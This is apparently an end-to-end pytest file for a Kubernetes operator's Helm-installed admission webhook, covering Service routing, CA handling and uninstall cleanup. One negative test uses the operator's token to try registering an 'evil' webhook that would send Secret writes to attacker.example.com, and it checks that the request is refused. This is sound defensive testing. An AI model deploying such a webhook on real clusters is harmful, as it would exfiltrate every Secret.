"""The pod admission webhook as the chart installs it, on the real API server.

The chart is installed with real Helm and its defaults (webhook on, the operator's own CA);
the operator runs as a local process under its ServiceAccount token with the webhook flags the
chart's Deployment passes, and the API server calls it through the chart's Service: the local
control plane routes Service calls to an endpoint (``--enable-aggregator-routing``) and an
EndpointSlice points the Service at this host, which is what the endpoint controller would do
for the operator's pod. So the Service name, port, the serving certificate's names, the CA
bundle, the RBAC and the owner reference are all the chart's and the operator's own. Then
``helm uninstall`` and the garbage collector remove the webhook configurations.
"""

from __future__ import annotations

import base64
import contextlib
import fcntl
import ipaddress
import os
import socket
import struct
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import helm_python
import pytest
import yaml
from deploy.generate import CHART
from kubernetes import client
from kubernetes.client.exceptions import ApiException

from tests import cert_manager
from tests.conftest import OWN_CONTROL_PLANE
from tests.e2e.operator_harness import (
    GROUP,
    PLURAL,
    VERSION,
    free_port,
    http_status,
    installed_crd,
    namespace,
    profile,
    profiles_cleaned_up,
    running_operator,
    wait_for,
    windows_pod,
)
from tests.e2e.test_delivery import (  # noqa: F401 - install is a fixture
    Install,
    install,
    service_account_token,
    token_client,
    token_kubeconfig,
)
from wcow_contract.catalog.hcs_annotations import ANNOTATION_MEMORY_MB, ANNOTATION_PROCESSOR_COUNT
from wcow_operator.render.webhooks import WEBHOOK_CONFIGURATION
from wcow_operator.webhook.certificates import Authority

pytestmark = pytest.mark.e2e

SIOCGIFADDR = 0x8915


def _usable(address: str) -> bool:
    ip = ipaddress.ip_address(address)
    return not (ip.is_loopback or ip.is_link_local or ip.is_unspecified or ip.is_multicast)


def host_address() -> str:
    """An IPv4 address of this host that an EndpointSlice accepts (not loopback)."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.255.255.255", 1))  # no packet is sent: picks the outgoing address
        address = str(probe.getsockname()[0])
        if _usable(address):
            return address
    for _, name in socket.if_nameindex():
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            packed = fcntl.ioctl(s.fileno(), SIOCGIFADDR, struct.pack("256s", name[:15].encode()))
            address = socket.inet_ntoa(packed[20:24])
            if _usable(address):
                return address
    pytest.fail("this host has no IPv4 address but loopback: the API server cannot be routed "
                "to the webhook through a Service")  # fmt: skip


def _flag(args: list[str], name: str) -> str:
    return next(a.split("=", 1)[1] for a in args if a.startswith(f"{name}="))


def _configurations(admin: client.ApiClient) -> list[Any]:
    registration = client.AdmissionregistrationV1Api(admin)
    found = []
    for read in (
        registration.read_mutating_webhook_configuration,
        registration.read_validating_webhook_configuration,
    ):
        try:
            found.append(read(WEBHOOK_CONFIGURATION))
        except ApiException as error:
            if error.status != 404:
                raise
    return found


SIZED_VM = {"sizing": "FromPodLimits", "maxProcessorCount": 8, "maxMemoryMB": 8192}


def _create_sized_profile(admin: client.ApiClient, name: str) -> None:
    """A FromPodLimits Hyper-V profile; returns once both configurations send its pods."""
    client.CustomObjectsApi(admin).create_cluster_custom_object(
        GROUP, VERSION, PLURAL,
        profile(name, isolation="HyperV", windowsBuild="ltsc2022", vm=SIZED_VM),
    )  # fmt: skip
    wait_for(
        f"the webhook registered for class {name}",
        lambda: (
            len(found := _configurations(admin)) == 2
            and all(f'"{name}"' in c.webhooks[0].match_conditions[0].expression for c in found)
        ),
    )


@contextlib.contextmanager
def _endpoint_slice(admin: client.ApiClient, ns: str, service: str, port: int) -> Iterator[None]:
    """The chart's Service, pointed at this host (as the endpoint controller would point it at
    the operator's pod)."""
    discovery = client.DiscoveryV1Api(admin)
    name = f"{service}-e2e"
    discovery.create_namespaced_endpoint_slice(
        ns,
        {
            "apiVersion": "discovery.k8s.io/v1",
            "kind": "EndpointSlice",
            "metadata": {
                "name": name,
                "labels": {
                    "kubernetes.io/service-name": service,
                    "endpointslice.kubernetes.io/managed-by": "e2e.wcow.dev",
                },
            },
            "addressType": "IPv4",
            "endpoints": [{"addresses": [host_address()], "conditions": {"ready": True}}],
            "ports": [{"name": "https-webhook", "port": port, "protocol": "TCP"}],
        },
    )
    try:
        yield
    finally:
        with contextlib.suppress(ApiException):
            discovery.delete_namespaced_endpoint_slice(name, ns)


def test_the_charts_webhook_answers_through_its_service_and_leaves_with_the_release(
    install: Install,  # noqa: F811 - the fixture imported above
    kubeconfig: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if os.environ.get(OWN_CONTROL_PLANE) != "1":
        pytest.skip(
            "needs the local control plane: it routes calls to a webhook's Service to an "
            "endpoint (--enable-aggregator-routing), and this test points one at this host"
        )
    admin = install.admin
    deployment = next(o for o in install.objects if o["kind"] == "Deployment")
    chart_args: list[str] = deployment["spec"]["template"]["spec"]["containers"][0]["args"]
    service = _flag(chart_args, "--webhook-service")
    owner = _flag(chart_args, "--webhook-owner-clusterrole")
    port = free_port()
    webhook_args = [
        *(a for a in chart_args if a.startswith("--webhook-") and "--webhook-port" not in a),
        f"--webhook-port={port}",
    ]
    token = service_account_token(install, install.operator_sa)
    monkeypatch.setenv(
        "KUBECONFIG", str(token_kubeconfig(token, install.namespace, tmp_path / "op.kubeconfig"))
    )
    core = client.CoreV1Api(admin)
    name = f"{install.release}-sized"
    with contextlib.ExitStack() as stack:
        stack.enter_context(_endpoint_slice(admin, install.namespace, service, port))
        pods = stack.enter_context(namespace(admin, f"{install.release}-pods"))
        operator = stack.enter_context(running_operator(install.namespace, *webhook_args))
        # Ready means: the configurations carry this replica's CA (readiness gates the Service).
        with profiles_cleaned_up(admin, [name]):
            try:
                _create_sized_profile(admin, name)
                role_uid = (
                    client.RbacAuthorizationV1Api(admin).read_cluster_role(owner).metadata.uid
                )
                for configuration in _configurations(admin):
                    reference = configuration.metadata.owner_references[0]
                    assert (reference.kind, reference.name, reference.uid) == (
                        "ClusterRole", owner, role_uid
                    )  # fmt: skip
                    service_ref = configuration.webhooks[0].client_config.service
                    assert (service_ref.name, service_ref.namespace, service_ref.port) == (
                        service, install.namespace, 443
                    )  # fmt: skip
                wait_for("the default ServiceAccount", lambda: core.read_namespaced_service_account(
                    "default", pods))  # fmt: skip
                admitted = core.create_namespaced_pod(pods, _sized_pod(name), dry_run="All")
                annotations = admitted.metadata.annotations or {}
                # Through the Service, TLS to <service>.<namespace>.svc with the published CA.
                assert annotations.get(ANNOTATION_PROCESSOR_COUNT) == "3"
                assert annotations.get(ANNOTATION_MEMORY_MB) == str(3072 + 512)
            except AssertionError as error:
                log = Path(operator["log"]).read_text(encoding="utf-8")[-4000:]
                raise AssertionError(f"{error}\n--- operator log (tail) ---\n{log}") from None
        assert "Forbidden" not in Path(operator["log"]).read_text(encoding="utf-8")

        # The operator's token may write only its own configuration (the chart's policy; RBAC
        # cannot narrow create by name): not one that would see every Secret.
        if install.policy:
            stolen = client.AdmissionregistrationV1Api(token_client(token))
            evil = {
                "metadata": {"name": f"{install.release}-evil"},
                "webhooks": [{
                    "name": "evil.example.com", "admissionReviewVersions": ["v1"],
                    "sideEffects": "None", "failurePolicy": "Ignore",
                    "clientConfig": {"url": "https://attacker.example.com/"},
                    "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"],
                               "operations": ["CREATE", "UPDATE"]}],
                }],
            }  # fmt: skip
            with pytest.raises(ApiException) as refused:
                stolen.create_validating_webhook_configuration(evil)
            assert refused.value.status in (403, 422), refused.value.body
            assert "may write only the webhook configuration" in str(refused.value.body)

        # Uninstall with the operator still running, as a real uninstall races it: the garbage
        # collector removes both configurations, and none comes back (here the binding goes
        # too, so the operator could not write; its own guard against writing without the
        # owner is tests/admission/test_webhook_config.py's).
        helm = helm_python.Config(kubeconfig_path=kubeconfig, namespace=install.namespace)
        try:
            helm.uninstall(install.release, timeout=120)
        finally:
            helm.close()
        wait_for("the garbage collector to remove both configurations",
                 lambda: not _configurations(admin), timeout=60)  # fmt: skip
        time.sleep(5)  # more than two of the keeper's rounds
        assert not _configurations(admin), "the operator wrote a configuration back"


def _sized_pod(runtime_class: str) -> dict[str, Any]:
    return windows_pod("sized", runtime_class, limits={"cpu": "3", "memory": "3Gi"})


def _cert_manager_secret(certificate: dict[str, Any], folder: Path) -> str:
    """What cert-manager and the kubelet would leave in the mounted Secret for the chart's
    Certificate: a serving certificate for its dnsNames from a CA, and that CA as ca.crt.
    Returns the CA (PEM)."""
    authority = Authority("cert-manager")
    issued = authority.issue(certificate["spec"]["dnsNames"], folder / "issued")
    key, cert = issued.certfile.read_text(encoding="ascii").split("-----BEGIN CERTIFICATE-----")
    (folder / "tls.key").write_text(key, encoding="ascii")
    (folder / "tls.crt").write_text("-----BEGIN CERTIFICATE-----" + cert, encoding="ascii")
    (folder / "ca.crt").write_text(authority.ca_pem, encoding="ascii")
    return authority.ca_pem


@pytest.fixture
def cert_manager_crds(kube: client.ApiClient) -> Iterator[None]:
    """Cert-manager's own CRDs (tools/cert-manager/go.mod), so the real API server validates
    the chart's Issuers and Certificates."""
    try:
        crds = cert_manager.crds()
    except cert_manager.CertManagerUnavailableError as error:
        pytest.fail(str(error))
    with contextlib.ExitStack() as stack:
        for crd in crds:
            stack.enter_context(installed_crd(kube, crd))
        yield


def test_with_cert_manager_the_webhook_serves_the_mounted_certificate_and_keeps_the_injected_ca(
    kube: client.ApiClient,
    kubeconfig: Path,
    cert_manager_crds: None,
    prefix: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The chart with webhook.certManager.enabled: the server accepts its Issuers and
    Certificates under cert-manager's CRDs. cert-manager's controller and cainjector do not
    run here: the test writes what they would (the Secret's files, as the kubelet mounts
    them, and the caBundle the cainjector patches in) and checks the operator's side of that
    contract: it serves the mounted certificate, asks for the injection, and keeps the injected
    CA when it rewrites the configurations."""
    if os.environ.get(OWN_CONTROL_PLANE) != "1":
        pytest.skip("needs the local control plane (see the test above)")
    release = f"{prefix}-cm"
    core = client.CoreV1Api(kube)
    custom = client.CustomObjectsApi(kube)
    registration = client.AdmissionregistrationV1Api(kube)
    values = {
        "crds": {"enabled": False},
        "webhook": {"certManager": {"enabled": True}},
        "uninstall": {"enabled": False},  # no kubelet for its Job (tests/e2e/test_uninstall.py)
    }
    with contextlib.ExitStack() as stack:
        stack.enter_context(installed_crd(kube))
        ns = stack.enter_context(namespace(kube, release))
        pods = stack.enter_context(namespace(kube, f"{release}-pods"))
        helm = helm_python.Config(kubeconfig_path=kubeconfig, namespace=ns)
        stack.callback(helm.close)
        installed = helm.install(CHART, release, values, namespace=ns, timeout=120)
        stack.callback(helm.uninstall, release, ignore_not_found=True, timeout=120)
        objects = [doc for doc in yaml.safe_load_all(installed["manifest"]) if doc]
        issued = [o for o in objects if o["apiVersion"] == "cert-manager.io/v1"]
        assert sorted(o["kind"] for o in issued) == ["Certificate", "Certificate", "Issuer",
                                                     "Issuer"]  # fmt: skip
        for obj in issued:  # stored as the chart wrote them: the CRDs' schemas accepted them
            plural = {"Certificate": "certificates", "Issuer": "issuers"}[obj["kind"]]
            custom.get_namespaced_custom_object(
                "cert-manager.io", "v1", ns, plural, obj["metadata"]["name"]
            )
        deployment = next(o for o in objects if o["kind"] == "Deployment")
        chart_args: list[str] = deployment["spec"]["template"]["spec"]["containers"][0]["args"]
        service = _flag(chart_args, "--webhook-service")
        serving = next(o for o in issued if o["metadata"]["name"] == service)
        mounted = tmp_path / "webhook-tls"
        (mounted / "issued").mkdir(parents=True)
        ca_pem = _cert_manager_secret(serving, mounted)
        port = free_port()
        webhook_args = [
            *(a for a in chart_args if a.startswith("--webhook-") and "-port=" not in a
              and "-cert-dir=" not in a),
            f"--webhook-port={port}",
            f"--webhook-cert-dir={mounted}",
        ]  # fmt: skip
        stack.enter_context(_endpoint_slice(kube, ns, service, port))
        # Under its own ServiceAccount, as in the cluster: the chart's policies hold it (and
        # would refuse an admin's plan writes, which only the operator's account may make).
        token = service_account_token(
            Install(release, ns, kube, True), f"{release}-wcow-runtime-operator"
        )
        monkeypatch.setenv(
            "KUBECONFIG", str(token_kubeconfig(token, ns, tmp_path / "op.kubeconfig"))
        )
        operator = stack.enter_context(running_operator(ns, *webhook_args, ready=False))
        readyz = f"http://127.0.0.1:{operator['health']}/readyz"
        sized, second = f"{release}-sized", f"{release}-second"
        stack.enter_context(profiles_cleaned_up(kube, [sized, second]))
        try:
            _create_sized_profile(kube, sized)
            for configuration in _configurations(kube):
                assert configuration.metadata.annotations == {
                    "cert-manager.io/inject-ca-from": f"{ns}/{serving['metadata']['name']}"
                }
                assert not configuration.webhooks[0].client_config.ca_bundle
            wait_for("the default ServiceAccount",
                     lambda: core.read_namespaced_service_account("default", pods))  # fmt: skip
            # Before the cainjector: the API server cannot trust the webhook, and for a pod of
            # a wcow class that is a refusal (failurePolicy Fail), not an unchecked admission.
            wait_for(
                "the API server to reach the webhook and not trust it (x509)",
                lambda: "x509" in _refusal_text(core, pods, _sized_pod(sized)),
            )
            # Not ready either, so the Service sends it nothing yet.
            assert http_status(readyz) == 503
            bundle = base64.b64encode(ca_pem.encode("ascii")).decode("ascii")
            for kind in ("mutating", "validating"):
                patch = [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle",
                          "value": bundle}]  # fmt: skip
                getattr(registration, f"patch_{kind}_webhook_configuration")(
                    WEBHOOK_CONFIGURATION, patch
                )
            admitted = wait_for(
                "the pod admitted through the injected CA",
                lambda: _admitted(core, pods, _sized_pod(sized)),
            )
            assert admitted.metadata.annotations[ANNOTATION_PROCESSOR_COUNT] == "3"
            wait_for("the operator ready once its CA is trusted",
                     lambda: http_status(readyz) == 200, timeout=30)  # fmt: skip
            # A new profile: the operator rewrites the configurations and keeps the CA.
            _create_sized_profile(kube, second)
            for configuration in _configurations(kube):
                assert configuration.webhooks[0].client_config.ca_bundle == bundle
            assert _admitted(core, pods, _sized_pod(second)) is not None
            # The guards let through every write the operator made (configurations, plan).
            assert "Forbidden" not in Path(operator["log"]).read_text(encoding="utf-8")
        except AssertionError as error:
            log = Path(operator["log"]).read_text(encoding="utf-8")[-4000:]
            raise AssertionError(f"{error}\n--- operator log (tail) ---\n{log}") from None


def _refusal_text(core: client.CoreV1Api, ns: str, pod: dict[str, Any]) -> str:
    """Why the API server refused the pod (dry run); "" if it admitted it."""
    try:
        core.create_namespaced_pod(ns, pod, dry_run="All")
    except ApiException as error:
        return str(error.body)
    return ""


def _admitted(core: client.CoreV1Api, ns: str, pod: dict[str, Any]) -> Any:
    """The admitted pod (dry run), or None while the webhook cannot be called."""
    try:
        return core.create_namespaced_pod(ns, pod, dry_run="All")
    except ApiException as error:
        if "failed calling webhook" in str(error.body):
            return None
        raise
